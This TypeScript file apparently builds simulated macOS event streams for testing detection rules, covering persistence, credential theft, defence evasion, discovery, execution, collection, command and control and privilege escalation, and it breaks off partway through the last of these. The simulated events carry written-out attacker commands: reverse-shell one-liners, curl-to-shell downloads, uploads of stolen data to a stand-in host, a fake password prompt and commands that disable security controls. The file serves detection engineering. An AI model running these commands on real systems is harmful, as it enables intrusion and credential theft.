// One file on purpose (~560 lines): the per-tactic scenarios that share one desktop world; each is short.
import { FDTYPE, FFLAG, PROC_CHECK } from '../es.js';
import type { Scenario } from '../scenario.js';
import { ROOT, type Proc, type World } from '../world.js';
import { desktop, pipeFds, run } from './desktop.js';

/** An implant that was already running when the capture started (no exec seen). */
function implant(w: World, path: string): Proc {
  return w.existing(path, { tty: null }, w.launchd);
}

/** `sh -c <line>` from `parent`, as scripts and implants run commands. */
function shc(w: World, parent: Proc, line: string, fds = pipeFds(false, true)): Proc {
  return run(w, parent, '/bin/sh', ['sh', '-c', line], { fds });
}

export const persistence: Scenario = {
  name: 'persistence',
  description:
    'Persistence techniques on one Mac: an implant in /Users/Shared drops and registers a LaunchAgent (BTM event), renames a daemon plist into place, installs a crontab, appends to .zshrc with Python, sets a login hook, adds an AppleScript login item, an emond rule and a periodic script, loads a third-party kext, submits a launchd job from /tmp and sets DYLD_INSERT_LIBRARIES for launchd. Benign look-alikes: brew services writing its agent, vim editing .zshrc, crontab -l.',
  seed: 0x9e75_0001,
  start: '2024-06-11T09:20:00.000000000Z',
  version: 7,
  expect: {
    'Launch Agent Or Daemon Plist Created By Shell Utility, Interpreter Or Unsigned Process': 1,
    'Script Or Executable Modified By Untrusted Non-Editor Process': 1,
    'Background Item Registered For Executable In Staging Location': 1,
    'Background Item Registered By Unsigned Process': 1,
    'Plist Renamed Into LaunchAgents Or LaunchDaemons By Unsigned Process': 1,
    'Crontab Installed From Temporary File Or Standard Input By Non-Interactive Parent': 1,
    'Shell Startup File Modified By Interpreter, Downloader Or Unsigned Process': 1,
    'Login Or Logout Hook Set': 1,
    'Login Item Added With AppleScript': 1,
    'Emond Rule Or Client Created': 1,
    'Periodic Script Created': 1,
    'Third-Party Kernel Extension Loaded': 1,
    'Launchctl Loads A Job From A Temporary Or Shared Location': 1,
    'DYLD_INSERT_LIBRARIES Set For A Process Or Launchd': 1,
    'Shell Spawned By Unsigned Binary From Staging Location': 1,
  },
  build(w) {
    const d = desktop(w);
    const agent = implant(w, '/Users/Shared/.cache/agent');
    const plist = `${w.home}/Library/LaunchAgents/com.apple.softwareupdate.agent.plist`;
    w.pause(800, 1500);
    w.create(agent, plist);
    w.open(agent, plist, FFLAG.FWRITE);
    w.write(agent, plist, 640);
    w.close(agent, plist, true);
    w.pause(300, 600);
    // backgroundtaskmanagementd reports the item; the instigator is the process that wrote it.
    w.btmLaunchItemAdd(d.btm, {
      itemType: 3,
      url: `file://${plist}`,
      executable: '/Users/Shared/.cache/agent',
      uid: 501,
      instigator: agent,
    });
    w.pause(2000, 4000);
    w.rename(agent, '/Users/Shared/.cache/d.plist', '/Library/LaunchDaemons/com.apple.sysmond.plist');
    w.pause(2000, 3000);
    // crontab from a temp file, via the implant's shell
    const sh = w.spawn(agent, '/bin/sh', ['/bin/sh'], {
      fds: [
        { fd: 0, fdtype: FDTYPE.PIPE },
        { fd: 1, fdtype: FDTYPE.PIPE },
        { fd: 2, fdtype: FDTYPE.PIPE },
      ],
      tty: null,
    });
    w.pause(500, 900);
    const cron = run(w, sh, '/usr/bin/crontab', ['crontab', '/tmp/.c'], { keep: true });
    w.create(cron, '/private/var/at/tabs/alice');
    w.exit(cron);
    w.pause(1000, 2000);
    const py = run(
      w,
      sh,
      '/usr/bin/python3',
      ['python3', '-c', "open('/Users/alice/.zshrc','a').write('\\n/Users/Shared/.cache/agent &\\n')"],
      { keep: true },
    );
    w.open(py, `${w.home}/.zshrc`, FFLAG.FWRITE | FFLAG.O_APPEND);
    w.write(py, `${w.home}/.zshrc`, 34);
    w.close(py, `${w.home}/.zshrc`, true);
    w.exit(py);
    w.pause(1000, 2000);
    run(w, sh, '/usr/bin/defaults', [
      'defaults',
      'write',
      'com.apple.loginwindow',
      'LoginHook',
      '/Users/Shared/.hook.sh',
    ]);
    w.pause(1000, 2000);
    run(w, sh, '/usr/bin/osascript', [
      'osascript',
      '-e',
      'tell application "System Events" to make login item at end with properties {path:"/Users/Shared/.cache/Agent.app", hidden:true}',
    ]);
    w.pause(1000, 2000);
    const cp = run(
      w,
      sh,
      '/bin/cp',
      ['cp', '/Users/Shared/.cache/r.plist', '/private/etc/emond.d/rules/update.plist'],
      { keep: true, euid: ROOT },
    );
    w.create(cp, '/private/etc/emond.d/rules/update.plist');
    w.exit(cp);
    const tee = run(w, sh, '/usr/bin/tee', ['tee', '/etc/periodic/daily/999.local'], { keep: true, euid: ROOT });
    w.create(tee, '/etc/periodic/daily/999.local');
    w.write(tee, '/etc/periodic/daily/999.local', 120);
    w.exit(tee);
    w.pause(1000, 2000);
    const kextutil = run(w, sh, '/usr/bin/kmutil', ['kmutil', 'load', '-p', '/Library/Extensions/Hidden.kext'], {
      keep: true,
      euid: ROOT,
    });
    w.kextload(kextutil, 'com.hidden.netfilter');
    w.exit(kextutil);
    w.pause(1000, 2000);
    run(w, sh, '/bin/launchctl', ['launchctl', 'submit', '-l', 'com.apple.mdmclient.helper', '--', '/tmp/.x/helper']);
    run(w, sh, '/bin/launchctl', ['launchctl', 'setenv', 'DYLD_INSERT_LIBRARIES', '/Users/Shared/.cache/libsys.dylib']);
    w.exit(sh);
    w.pause(5000, 8000);

    // Benign look-alikes
    const brew = w.spawn(d.shell, '/opt/homebrew/Library/Homebrew/vendor/portable-ruby/3.3.6/bin/ruby', [
      'ruby',
      '/opt/homebrew/Library/Homebrew/brew.rb',
      'services',
      'start',
      'postgresql@16',
    ]);
    const brewPlist = `${w.home}/Library/LaunchAgents/homebrew.mxcl.postgresql@16.plist`;
    w.create(brew, brewPlist);
    w.write(brew, brewPlist, 900);
    w.close(brew, brewPlist, true);
    run(w, brew, '/bin/launchctl', ['launchctl', 'bootstrap', 'gui/501', brewPlist]);
    w.exit(brew);
    w.pause(3000, 5000);
    const vim = w.spawn(d.shell, '/usr/bin/vim', ['vim', `${w.home}/.zshrc`]);
    w.open(vim, `${w.home}/.zshrc`);
    w.pause(20000, 30000);
    w.open(vim, `${w.home}/.zshrc`, FFLAG.FWRITE | FFLAG.O_TRUNC);
    w.write(vim, `${w.home}/.zshrc`, 2400);
    w.close(vim, `${w.home}/.zshrc`, true);
    w.exit(vim);
    run(w, d.shell, '/usr/bin/crontab', ['crontab', '-l']);
  },
};

export const credentialAccess: Scenario = {
  name: 'credential-access',
  description:
    'A stealer in the style of Atomic (AMOS): a fake password dialog, Chrome Safe Storage read with security -w, an unsigned binary reading Chrome and Firefox login stores, cp of the login keychain, sqlite3 on a copied Login Data, kcpassword read, an SSH key base64-encoded, ShadowHashData read with dscl, the loot zipped and posted with curl. Benign look-alikes: Chrome opening its own cookies, securityd opening the keychain, ssh reading its key.',
  seed: 0x9e75_0002,
  start: '2024-06-11T10:05:00.000000000Z',
  version: 7,
  expect: {
    'Fake Password Prompt With AppleScript': 1,
    'Keychain Secrets Dumped With security': 1,
    'Discovery Utility Started By An Unsigned Or Ad-hoc Program': 2,
    'Browser Cookie Or Login Store Opened By Another Process': 2,
    'Keychain Database Read By Copy Utility, Interpreter Or Unsigned Process': 1,
    'Browser Credential Database Queried With sqlite3': 1,
    'Auto-Login Password File Accessed': 1,
    'SSH Private Key Read By Non-SSH Process': 1,
    'Password Hash Read From Directory Services': 1,
    'File Uploaded With Curl From Script Or Staging Location': 1,
    'Keychain Secret Read Then Sent With Curl By The Same Parent': 1,
    'Collected Data Uploaded By The Same Parent': 1,
    // the stealer runs osascript directly (an interpreter child of a staged binary)
    'Shell Spawned By Unsigned Binary From Staging Location': 1,
  },
  build(w) {
    const d = desktop(w);
    const chrome = w.existing('/Applications/Google Chrome.app/Contents/MacOS/Google Chrome', { tty: null });
    const stealer = implant(w, '/private/var/folders/7x/k2_l1h0d3f5bq/T/.s/stealer');
    const profile = `${w.home}/Library/Application Support/Google/Chrome/Default`;
    // benign first: Chrome uses its own stores, securityd reads the keychain
    w.open(chrome, `${profile}/Cookies`, FFLAG.FREAD | FFLAG.FWRITE);
    w.open(chrome, `${profile}/Login Data`, FFLAG.FREAD | FFLAG.FWRITE);
    w.open(d.securityd, `${w.home}/Library/Keychains/login.keychain-db`, FFLAG.FREAD | FFLAG.FWRITE);
    w.pause(2000, 3000);
    run(
      w,
      stealer,
      '/usr/bin/osascript',
      [
        'osascript',
        '-e',
        'display dialog "To launch the application, you need to update the system settings\n\nPlease enter your password." default answer "" with icon caution buttons {"Continue"} default button "Continue" giving up after 150 with title "System Preferences" with hidden answer',
      ],
      { fds: pipeFds(false, true) },
    );
    w.pause(8000, 12000);
    run(w, stealer, '/usr/bin/security', ['security', 'find-generic-password', '-ga', 'Chrome', '-w'], {
      fds: pipeFds(false, true),
    });
    w.pause(500, 900);
    w.open(stealer, `${profile}/Login Data`, FFLAG.FREAD);
    w.open(
      stealer,
      `${w.home}/Library/Application Support/Firefox/Profiles/x1y2z3.default-release/logins.json`,
      FFLAG.FREAD,
    );
    const cp = run(
      w,
      stealer,
      '/bin/cp',
      ['cp', `${w.home}/Library/Keychains/login.keychain-db`, '/private/var/folders/7x/k2_l1h0d3f5bq/T/.s/kc'],
      { keep: true },
    );
    w.open(cp, `${w.home}/Library/Keychains/login.keychain-db`, FFLAG.FREAD);
    w.exit(cp);
    run(w, stealer, '/usr/bin/sqlite3', [
      'sqlite3',
      '/private/var/folders/7x/k2_l1h0d3f5bq/T/.s/Login Data',
      'SELECT origin_url, username_value, password_value FROM logins',
    ]);
    const cat = run(w, stealer, '/bin/cat', ['cat', '/private/etc/kcpassword'], { keep: true });
    w.open(cat, '/private/etc/kcpassword');
    w.exit(cat);
    const b64 = run(w, stealer, '/usr/bin/base64', ['base64', '-i', `${w.home}/.ssh/id_ed25519`], { keep: true });
    w.open(b64, `${w.home}/.ssh/id_ed25519`);
    w.exit(b64);
    run(w, stealer, '/usr/bin/dscl', ['dscl', '.', '-read', '/Users/alice', 'dsAttrTypeNative:ShadowHashData']);
    w.pause(3000, 6000);
    run(w, stealer, '/usr/bin/ditto', [
      'ditto',
      '-c',
      '-k',
      '/private/var/folders/7x/k2_l1h0d3f5bq/T/.s',
      '/private/var/folders/7x/k2_l1h0d3f5bq/T/out.zip',
    ]);
    run(
      w,
      stealer,
      '/usr/bin/curl',
      [
        'curl',
        '-s',
        '-X',
        'POST',
        '-F',
        'file=@/private/var/folders/7x/k2_l1h0d3f5bq/T/out.zip',
        'http://203.0.113.9/p2',
      ],
      { fds: pipeFds(false, true) },
    );
    w.pause(10000, 15000);
    // the user pushes to GitHub: ssh reads the key
    const git = w.spawn(d.shell, '/usr/bin/git', ['git', 'push']);
    const ssh = w.spawn(git, '/usr/bin/ssh', ['ssh', 'git@github.com', "git-receive-pack 'alice/app.git'"]);
    w.open(ssh, `${w.home}/.ssh/id_ed25519`);
    w.open(ssh, `${w.home}/.ssh/known_hosts`);
    w.exit(ssh);
    w.exit(git);
  },
};

export const defenseEvasion: Scenario = {
  name: 'defense-evasion',
  description:
    'Defence evasion and impairment: quarantine removed with xattr (and the un-quarantined download run), Gatekeeper disabled, SIP disabled from recovery, TCC screen-capture grant to a hidden binary, TCC.db written with sqlite3, a signature removed, a payload hidden with chflags, history deleted and disabled, the EDR killed, the dropper deleting itself, the firewall turned off, logs erased, a dylib mapped executable from /tmp, a signature invalidated, a remote thread and a task port; the dropper shell also checks SIP with csrutil status. Benign look-alikes: chflags nohidden, Finder removing FinderInfo, launchd stopping the EDR at update.',
  seed: 0x9e75_0003,
  start: '2024-11-20T16:40:00.000000000Z',
  version: 8,
  expect: {
    'Quarantine Attribute Removed With xattr': 2,
    'Quarantine Attribute Deleted By Interpreter Or Unsigned Process': 2,
    'Quarantine Removed Then Unsigned File Executed': 1,
    'Unsigned Or Ad-hoc Binary Executed From Temporary, Downloads Or Hidden Location': 1,
    'Gatekeeper Disabled Or Bypassed With spctl': 1,
    'System Integrity Protection Disabled With csrutil': 1,
    'System Integrity Protection Status Queried By A Script': 1,
    'Privacy Permission Granted To Binary In Staging Location': 1,
    'TCC Database Written By Process Other Than tccd': 1,
    'Code Signature Removed': 1,
    'File Hidden With chflags': 1,
    'Shell History File Deleted': 1,
    'Shell History Disabled Or Cleared From Command Line': 1,
    'Security Agent Killed Or Stopped': 1,
    'Unsigned Process Deletes Its Own Executable': 1,
    'Application Firewall Disabled': 1,
    'System Logs Erased': 1,
    'Library Mapped Executable From Temporary Location By Unsigned Process': 1,
    'Code Signature Invalidated At Runtime': 1,
    'Thread Created In Another Process': 1,
    'Task Port Of Another Process Obtained By Unsigned Process': 1,
    'File In Temporary Or Shared Folder Made Executable': 1,
  },
  build(w) {
    const d = desktop(w);
    const edr = w.existing('/Library/Application Support/JAMF/JamfProtect.app/Contents/MacOS/JamfProtect', {
      euid: ROOT,
      tty: null,
      is_es_client: true,
    });
    const slack = w.existing('/Applications/Slack.app/Contents/MacOS/Slack', { tty: null });
    const dropper = implant(w, '/tmp/.d/dropper');
    const sh = w.spawn(d.shell, '/bin/sh', ['sh']);
    // Dropper prepares the payload
    const x = run(w, sh, '/usr/bin/xattr', ['xattr', '-d', 'com.apple.quarantine', `${w.home}/Downloads/Payload.app`], {
      keep: true,
    });
    w.deleteextattr(x, `${w.home}/Downloads/Payload.app`, 'com.apple.quarantine');
    w.exit(x);
    const x2 = run(w, sh, '/usr/bin/xattr', ['xattr', '-d', 'com.apple.quarantine', `${w.home}/Downloads/tool`], {
      keep: true,
    });
    w.deleteextattr(x2, `${w.home}/Downloads/tool`, 'com.apple.quarantine');
    w.exit(x2);
    w.pause(4000, 9000);
    run(w, sh, `${w.home}/Downloads/tool`, ['./tool']);
    run(w, sh, '/usr/sbin/spctl', ['spctl', '--master-disable'], { euid: ROOT });
    run(w, sh, '/usr/bin/csrutil', ['csrutil', 'status']);
    run(w, sh, '/usr/bin/csrutil', ['csrutil', 'disable'], { euid: ROOT });
    w.pause(1000, 2000);
    w.tccModify(d.tccd, {
      service: 'kTCCServiceScreenCapture',
      identity: '/Users/Shared/.cache/agent',
      identityType: 1,
      updateType: 1,
      right: 2,
      reason: 5,
    });
    const sq = run(
      w,
      sh,
      '/usr/bin/sqlite3',
      [
        'sqlite3',
        `${w.home}/Library/Application Support/com.apple.TCC/TCC.db`,
        "INSERT INTO access VALUES('kTCCServiceSystemPolicyAllFiles','/Users/Shared/.cache/agent',1,2,4,1,NULL,NULL,0,'UNUSED',NULL,0,1700000000)",
      ],
      { keep: true },
    );
    w.open(sq, `${w.home}/Library/Application Support/com.apple.TCC/TCC.db`, FFLAG.FREAD | FFLAG.FWRITE);
    w.write(sq, `${w.home}/Library/Application Support/com.apple.TCC/TCC.db`, 4096);
    w.exit(sq);
    run(w, sh, '/usr/bin/codesign', ['codesign', '--remove-signature', '/Applications/Target.app']);
    run(w, sh, '/bin/chmod', ['chmod', '+x', '/Users/Shared/.cache/agent']);
    run(w, sh, '/usr/bin/chflags', ['chflags', 'hidden', '/Users/Shared/.cache']);
    run(w, sh, '/usr/bin/chflags', ['chflags', 'nohidden', `${w.home}/Library`]);
    const rm = run(w, sh, '/bin/rm', ['rm', '-f', `${w.home}/.zsh_history`], { keep: true });
    w.unlink(rm, `${w.home}/.zsh_history`);
    w.exit(rm);
    shc(w, sh, 'unset HISTFILE; export HISTSIZE=0');
    w.pause(1000, 2000);
    const kill = run(w, sh, '/bin/kill', ['kill', '-9', String(edr.pid)], { keep: true, euid: ROOT });
    w.signal(kill, edr, 9);
    w.exit(kill);
    w.unlink(dropper, '/tmp/.d/dropper');
    run(
      w,
      sh,
      '/usr/libexec/ApplicationFirewall/socketfilterfw',
      ['/usr/libexec/ApplicationFirewall/socketfilterfw', '--setglobalstate', 'off'],
      { euid: ROOT },
    );
    run(w, sh, '/usr/bin/log', ['log', 'erase', '--all'], { euid: ROOT });
    w.mmap(dropper, '/tmp/.d/libext.dylib', 5, 7, 0x2);
    w.csInvalidated(slack);
    w.getTask(dropper, slack);
    w.remoteThreadCreate(dropper, slack);
    w.exit(sh);
    w.pause(4000, 6000);
    // Benign: Finder clears FinderInfo; launchd stops the EDR for an update.
    w.deleteextattr(d.finder, `${w.home}/Desktop/notes.txt`, 'com.apple.FinderInfo');
    w.signal(w.launchd, edr, 15);
  },
};

export const discovery: Scenario = {
  name: 'discovery',
  description:
    'Discovery from an implant in /tmp: a process-listing burst through proc_check, a recursive walk of the home folder (readdir of 60 directories in a few seconds), and a shell running id, whoami, sw_vers, uname, system_profiler, dscl list, security list-keychains, pgrep for Little Snitch and an ioreg VM check. Benign look-alikes: Activity Monitor polling every process, Finder browsing folders, a developer running uname and sw_vers.',
  seed: 0x9e75_0004,
  start: '2024-06-12T08:00:00.000000000Z',
  version: 7,
  expect: {
    'Shell Spawned By Unsigned Binary From Staging Location': 1,
    'Burst Of Distinct Discovery Utilities From One Parent': 1,
    'Local Accounts Enumerated With dscl Or dscacheutil': 1,
    'Keychains And Certificates Enumerated With security': 1,
    'Security Software Discovery': 1,
    'Virtual Machine Or Sandbox Check': 1,
    'Process Listing Burst By Untrusted Process': 1,
    'Directory Walk Of User Data By Unsigned Staged Process': 1,
  },
  build(w) {
    const d = desktop(w);
    const am = w.existing('/System/Applications/Utilities/Activity Monitor.app/Contents/MacOS/Activity Monitor', {
      tty: null,
    });
    const agent = implant(w, '/tmp/.agent');
    // Benign: Activity Monitor polls every process
    for (let round = 0; round < 3; round++) {
      w.procCheck(am, null, PROC_CHECK.LISTPIDS);
      for (const p of d.others) w.procCheck(am, p, PROC_CHECK.PIDINFO, 13);
      w.pause(2000, 2100);
    }
    // Agent: ps-style burst
    w.procCheck(agent, null, PROC_CHECK.LISTPIDS);
    for (const p of d.others) {
      w.procCheck(agent, p, PROC_CHECK.PIDINFO, 13);
      w.procCheck(agent, p, PROC_CHECK.PIDINFO, 11);
    }
    w.pause(3000, 5000);
    // Agent: recursive search of the home folder
    const dirs = [
      'Documents',
      'Desktop',
      'Downloads',
      'Pictures',
      'Movies',
      'Music',
      'Library/Application Support',
      'Library/Mobile Documents',
      'Library/Keychains',
      'Library/Cookies',
    ];
    let n = 0;
    for (const top of dirs) {
      for (let i = 0; i < 6; i++) {
        w.readdir(agent, `${w.home}/${top}${i ? `/folder-${n}` : ''}`);
        n++;
        w.pause(10, 60);
      }
    }
    // Finder browses a few folders (benign)
    for (const top of dirs.slice(0, 5)) w.readdir(d.finder, `${w.home}/${top}`);
    w.pause(2000, 4000);
    const sh = w.spawn(agent, '/bin/sh', ['/bin/sh'], { fds: pipeFds(true, true), tty: null });
    const cmds: string[][] = [
      ['/usr/bin/id', 'id'],
      ['/usr/bin/whoami', 'whoami'],
      ['/usr/bin/sw_vers', 'sw_vers'],
      ['/usr/bin/uname', 'uname', '-a'],
      ['/usr/sbin/system_profiler', 'system_profiler', 'SPHardwareDataType', 'SPSoftwareDataType'],
      ['/usr/bin/dscl', 'dscl', '.', 'list', '/Users'],
      ['/usr/bin/security', 'security', 'list-keychains'],
      ['/usr/bin/pgrep', 'pgrep', '-f', 'Little Snitch'],
    ];
    for (const c of cmds) {
      w.pause(1500, 4000);
      run(w, sh, c[0]!, c.slice(1), { fds: pipeFds(true, true) });
    }
    w.pause(1500, 3000);
    const vm = run(
      w,
      sh,
      '/bin/sh',
      ['sh', '-c', 'ioreg -rd1 -c IOPlatformExpertDevice | grep -i -e VMware -e VirtualBox -e Parallels'],
      { keep: true, fds: pipeFds(true, true) },
    );
    run(w, vm, '/usr/sbin/ioreg', ['ioreg', '-rd1', '-c', 'IOPlatformExpertDevice'], { fds: pipeFds(false, true) });
    run(w, vm, '/usr/bin/grep', ['grep', '-i', '-e', 'VMware', '-e', 'VirtualBox', '-e', 'Parallels'], {
      fds: pipeFds(true, true),
    });
    w.exit(vm);
    w.exit(sh);
    w.pause(60000, 90000);
    // Benign: a developer checks versions in Terminal, a minute apart
    run(w, d.shell, '/usr/bin/uname', ['uname', '-m']);
    w.pause(30000, 40000);
    run(w, d.shell, '/usr/bin/sw_vers', ['sw_vers', '-productVersion']);
  },
};

export const execution: Scenario = {
  name: 'execution',
  description:
    'Execution techniques: curl piped into sh typed in Terminal (curl and a stdin-pipe sh as siblings), the downloaded script running JXA inline, a Python reverse shell one-liner, a Perl socket one-liner and a base64-decoded command; an exploited Chrome spawning sh -c "curl | sh"; a hidden loader having launchd run its AppleScript (real parent via the responsible process); an unsigned binary run from Downloads. Benign look-alikes: the Homebrew installer one-liner, python -c printing a version, osascript running a .scpt file.',
  seed: 0x9e75_0005,
  start: '2024-06-13T13:30:00.000000000Z',
  version: 7,
  expect: {
    'Downloaded Script Piped Into A Shell': 1,
    'Inline JavaScript For Automation Executed': 1,
    'Python One-Liner With Network, Decode Or Exec': 1,
    'Perl Or Ruby One-Liner Opening A Socket': 1,
    'Base64 Payload Decoded Into A Shell Or Interpreter': 1,
    'Browser Spawns Shell Or Script Interpreter': 1,
    'Download Piped To Shell In One Command Line': 1,
    'Unsigned Or Ad-hoc Binary Executed From Temporary, Downloads Or Hidden Location': 1,
    'Interpreter Started By launchd On Behalf Of Unsigned Staged Process': 1,
  },
  build(w) {
    const d = desktop(w);
    const chrome = w.existing('/Applications/Google Chrome.app/Contents/MacOS/Google Chrome', { tty: null });
    // Benign first: the Homebrew installer, typed in Terminal
    const hb = w.spawn(d.shell, '/bin/bash', [
      '/bin/bash',
      '-c',
      '$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)',
    ]);
    w.exit(hb);
    run(w, d.shell, '/usr/bin/python3', ['python3', '-c', 'import sys; print(sys.version)']);
    run(w, d.shell, '/usr/bin/osascript', ['osascript', `${w.home}/scripts/mail.scpt`]);
    w.pause(20000, 30000);
    // curl | sh, as zsh runs a pipeline: two children, curl's stdout and sh's stdin are a pipe.
    const curl = w.spawn(d.shell, '/usr/bin/curl', ['curl', '-fsSL', 'http://203.0.113.7/i.sh'], {
      fds: pipeFds(false, true),
    });
    const sh = w.spawn(d.shell, '/bin/sh', ['sh'], { fds: pipeFds(true, false) });
    w.exit(curl);
    w.pause(200, 400);
    run(w, sh, '/usr/bin/osascript', [
      'osascript',
      '-l',
      'JavaScript',
      '-e',
      "ObjC.import('Foundation'); var app = Application.currentApplication(); app.includeStandardAdditions = true; app.doShellScript('id')",
    ]);
    run(w, sh, '/usr/bin/python3', [
      'python3',
      '-c',
      "import socket,os,pty;s=socket.socket();s.connect(('203.0.113.7',4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')",
    ]);
    run(w, sh, '/usr/bin/perl', [
      'perl',
      '-e',
      'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4445,inet_aton("203.0.113.7")));open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");',
    ]);
    shc(w, sh, 'echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcvYi5zaCAtbyAvdG1wLy5i | base64 -d | sh');
    w.exit(sh);
    w.pause(30000, 40000);
    // Exploited browser
    const renderer = w.fork(chrome);
    w.exec(renderer, '/bin/sh', ['sh', '-c', 'curl -s http://203.0.113.7/c.sh | sh'], { fds: pipeFds(false, true) });
    w.pause(10, 30);
    w.exit(renderer);
    w.pause(20000, 30000);
    // A hidden loader has launchd run its AppleScript, so the script's parent is launchd
    const loader = w.existing(`${w.home}/Library/Caches/.x/loader`, { tty: null }, w.launchd);
    w.open(loader, `${w.home}/Library/Caches/.x/run.scpt`);
    const job = w.launch('/usr/bin/osascript', ['osascript', `${w.home}/Library/Caches/.x/run.scpt`], {
      responsible: loader,
    });
    w.exit(job);
    w.pause(5000, 9000);
    // Unsigned binary from Downloads, started from Terminal
    const inv = w.spawn(d.shell, `${w.home}/Downloads/invoice-2024-06`, ['./invoice-2024-06']);
    w.open(inv, '/etc/hosts');
    w.exit(inv);
  },
};

export const collection: Scenario = {
  name: 'collection',
  description:
    "Collection: an unsigned implant opens the camera and framebuffer user clients, a Developer ID signed binary in Application Support opens the camera, the implant's shell takes a silent screenshot, reads the clipboard with pbpaste and osascript, records with ffmpeg avfoundation and zips Documents into /tmp. Benign look-alikes: FaceTime and Zoom opening the camera, WindowServer opening the framebuffer, a user screenshot from the UI.",
  seed: 0x9e75_0006,
  start: '2024-06-14T11:15:00.000000000Z',
  version: 7,
  expect: {
    'Camera User Client Opened By Unsigned Or Ad-hoc Process': 1,
    'Framebuffer User Client Opened By Unsigned Or Ad-hoc Process': 1,
    'Camera User Client Opened By Signed Binary Outside An App Bundle': 1,
    'Shell Spawned By Unsigned Binary From Staging Location': 1,
    'Silent Screen Capture From Script Or Unsigned Parent': 1,
    'Screenshot Saved To A File From A Script': 1,
    'Clipboard Read By Descendant Of Unsigned Staged Binary': 2,
    'Clipboard Read With AppleScript': 1,
    'Camera Or Microphone Recorded From The Command Line': 1,
    'User Documents Archived Into Temporary Location': 1,
  },
  build(w) {
    const d = desktop(w);
    const facetime = w.existing('/System/Applications/FaceTime.app/Contents/MacOS/FaceTime', { tty: null });
    const zoom = w.existing('/Applications/zoom.us.app/Contents/MacOS/zoom.us', { tty: null });
    const syncd = w.existing(`${w.home}/Library/Application Support/com.sync/syncd`, {
      tty: null,
      signing: { signing_id: 'com.sync.syncd', team_id: 'Q9W8E7R6T5', is_platform_binary: false },
    });
    const agent = implant(w, `${w.home}/.local/share/.a/agent`);
    w.iokitOpen(facetime, 'AppleH13CamInUserClient');
    w.iokitOpen(zoom, 'AppleH13CamInUserClient');
    w.iokitOpen(d.windowServer, 'IOMobileFramebufferUserClient');
    w.iokitOpen(zoom, 'IOSurfaceRootUserClient');
    w.pause(5000, 8000);
    w.iokitOpen(agent, 'AppleH13CamInUserClient');
    w.iokitOpen(agent, 'IOMobileFramebufferUserClient');
    w.iokitOpen(syncd, 'AppleH13CamInUserClient');
    w.pause(3000, 6000);
    const sh = w.spawn(agent, '/bin/sh', ['/bin/sh'], { fds: pipeFds(true, true), tty: null });
    run(w, sh, '/usr/sbin/screencapture', ['screencapture', '-x', '-t', 'jpg', '/tmp/.s1.jpg'], {
      fds: pipeFds(true, true),
    });
    run(w, sh, '/usr/bin/pbpaste', ['pbpaste'], { fds: pipeFds(true, true) });
    run(w, sh, '/usr/bin/osascript', ['osascript', '-e', 'get the clipboard as text'], { fds: pipeFds(true, true) });
    run(w, sh, '/opt/homebrew/bin/ffmpeg', ['ffmpeg', '-f', 'avfoundation', '-i', '0:0', '-t', '20', '/tmp/.c.mp4'], {
      fds: pipeFds(true, true),
    });
    run(w, sh, '/usr/bin/ditto', ['ditto', '-c', '-k', '--sequesterRsrc', `${w.home}/Documents`, '/tmp/.d.zip'], {
      fds: pipeFds(true, true),
    });
    w.exit(sh);
    w.pause(10000, 20000);
    // Benign: the user takes a screenshot from the UI
    const ui = d.others.find((p) => p.exe.endsWith('SystemUIServer'))!;
    run(w, ui, '/usr/sbin/screencapture', ['screencapture', '-i', '-U']);
  },
};

export const commandAndControl: Scenario = {
  name: 'command-and-control',
  description:
    'Command and control: a bash /dev/tcp reverse shell (the interactive bash it starts has sockets on fds 0–2), a mkfifo+nc shell, an upload with curl -F of a staged archive, and a chisel tunnel run from a hidden folder. Benign look-alikes: nc -zv port check, a terminal zsh, curl posting JSON.',
  seed: 0x9e75_0007,
  start: '2024-06-15T22:10:00.000000000Z',
  version: 8,
  expect: {
    'Reverse Shell One-Liner': 2,
    // bash -i, then the sh -c of the fifo shell, which inherits the sockets
    'Shell Started With A Network Socket As Standard Descriptor': 2,
    'File Uploaded With Curl From Script Or Staging Location': 1,
    'Tunnelling Or Proxy Tool Executed': 1,
    'Unsigned Or Ad-hoc Binary Executed From Temporary, Downloads Or Hidden Location': 1,
  },
  build(w) {
    const d = desktop(w);
    run(w, d.shell, '/usr/bin/nc', ['nc', '-zv', 'example.com', '443']);
    run(w, d.shell, '/usr/bin/curl', ['curl', '-s', '-X', 'POST', '-d', '{"a":1}', 'https://api.example.com/x']);
    w.pause(10000, 20000);
    // bash -c 'bash -i >& /dev/tcp/… 0>&1': the outer bash opens the socket and execs an interactive bash on it.
    const outer = w.spawn(d.shell, '/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1']);
    const inner = w.fork(outer);
    const sockets = [0, 1, 2].map((fd) => ({ fd, fdtype: FDTYPE.SOCKET }));
    const ish = w.exec(inner, '/bin/bash', ['bash', '-i'], { fds: sockets, tty: null });
    run(w, ish, '/usr/bin/id', ['id'], { fds: sockets });
    w.pause(2000, 4000);
    shc(w, ish, 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4445 >/tmp/f', sockets);
    w.pause(5000, 8000);
    run(w, ish, '/usr/bin/curl', ['curl', '-s', '-F', 'file=@/tmp/.d.zip', 'http://203.0.113.7:8080/upload'], {
      fds: sockets,
    });
    w.pause(3000, 5000);
    const chisel = w.spawn(ish, '/Users/Shared/.c/chisel', ['chisel', 'client', '203.0.113.7:8000', 'R:socks'], {
      fds: sockets,
    });
    w.open(chisel, '/etc/hosts');
    w.pause(30000, 40000);
    w.exit(chisel);
    w.exit(ish);
    w.exit(outer);
  },
};

export const privilegeEscalation: Scenario = {
  name: 'privilege-escalation',
  description:
    'Privilege escalation: five wrong sudo passwords in a row, sudo running a hidden binary in /tmp, an AppleScript admin prompt, a setuid root shell prepared in /tmp (chown root, chmod 4755), sudoers appended with tee, a user added to admin, the authorization trampoline under an unsigned installer, an authorization plugin copied into place, authorizationdb changed and su to root driven by expect. Benign look-alikes: sudo softwareupdate, chmod 755 of a script, visudo.',
  seed: 0x9e75_0008,
  start: '2024-06-16T07:45:00.000000000Z',
  version: 7,
  expect: {
    'Repeated Sudo Failures For One User': 1,
    'Sudo Runs A Program From A Staging Location': 1,
